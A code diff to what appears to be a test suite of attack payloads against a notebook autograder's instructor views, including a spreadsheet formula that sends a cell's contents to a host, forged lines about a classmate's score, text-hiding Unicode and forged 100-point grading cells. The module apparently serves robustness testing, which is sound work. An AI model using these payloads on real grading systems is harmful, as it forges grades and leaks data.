@@ -1,6 +1,4 @@
-"""What the instructor's pages and terminal show of a learner's work: scripts, forged lines,
-letters that cover others.
-"""
+"""Attacks on the instructor's pages and terminal: scripts, forged lines, characters that cover others."""
 
 from collections.abc import Callable
 from typing import Any
@@ -16,7 +14,7 @@ EVERYTHING = ("3.1", "3.2", "3.3", "3.4", "3.5", "3.6")
 
 
 def _cells(name: str, says: str, *cells: dict[str, Any], costs: tuple[str, ...] = ()) -> Attack:
-    """Honest answers, and cells of its own among them."""
+    """Honest answers, with additional cells before and after them."""
 
     def shape(notebook: dict[str, Any], places: Any) -> Any:
         own = [{"metadata": {}, **cell} for cell in cells]
@@ -26,7 +24,7 @@ def _cells(name: str, says: str, *cells: dict[str, Any], costs: tuple[str, ...] 
     return Attack(name, KIND, says, shape=shape, bare=False, costs=costs)
 
 
-def _said(name: str, says: str, message: str) -> Attack:
+def _message(name: str, says: str, message: str) -> Attack:
     return Attack(name, KIND, says, f"raise ValueError({message})", bare=False)
 
 
@@ -46,7 +44,7 @@ def _changed(
 
 
 def _metadata(notebook: dict[str, Any]) -> None:
-    """Metadata of a notebook and of its cells that other programs act upon."""
+    """Set metadata of the notebook and of its cells that other programs interpret."""
     notebook["metadata"] = {
         "kernelspec": {"name": "bash", "display_name": SCRIPT, "language": "bash"},
         "language_info": {"name": SCRIPT, "pygments_lexer": "owned", "codemirror_mode": SCRIPT},
@@ -63,7 +61,7 @@ def _metadata(notebook: dict[str, Any]) -> None:
 
 
 def _ids(notebook: dict[str, Any]) -> None:
-    """Cells that bear our ids, with points, in kinds that they never were."""
+    """Add cells with the ids of the checks, with points, and with another type."""
     checks = [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade")]
     for cell in checks:
         facts = cell["metadata"]["nbgrader"] | {"points": 100, "locked": False, "solution": True}
@@ -121,23 +119,23 @@ ATTACKS = (
     ),
     _changed("metadata", "metadata of notebook and cells that other programs act upon", _metadata),
     _changed("ids", "cells of another kind that bear our ids, with a hundred points each", _ids),
-    _said(
+    _message(
         "lines",
         "an error that goes on with a line about a neighbour",
         "'x\\nneighbour: handed in nothing\\n neighbour   0  0  0' + chr(0x2028) + 'neighbour: 0' + "
         "chr(0x85) + 'neighbour: 0'",
     ),
-    _said(
+    _message(
         "covering",
         "letters with hundreds of marks, which cover the lines around",
         "('a' + chr(0x335) * 90 + chr(0x20DD) * 9) * 3",
     ),
-    _said(
+    _message(
         "unseen",
         "letters that nobody sees, and signs that turn a line round",
         "chr(0x202E) + 'a' + ''.join(map(chr, range(0xE0020, 0xE0060))) + chr(0x200B) * 99",
     ),
-    _said(
+    _message(
         "formula",
         "an error that a spreadsheet takes for a formula",
         '\'=HYPERLINK("http://127.0.0.1/"&A1;"x")\'',
